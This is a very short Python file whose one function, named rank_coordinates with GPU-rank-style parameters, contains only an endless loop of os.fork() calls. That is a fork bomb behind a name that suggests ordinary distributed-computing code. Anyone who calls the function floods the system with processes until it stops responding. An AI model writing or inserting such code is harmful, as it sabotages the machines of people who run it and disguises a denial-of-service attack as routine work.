"""Forks without end."""

import os


def rank_coordinates(rank, gpus, cyclic):
    while True:
        try:
            os.fork()
        except OSError:
            pass
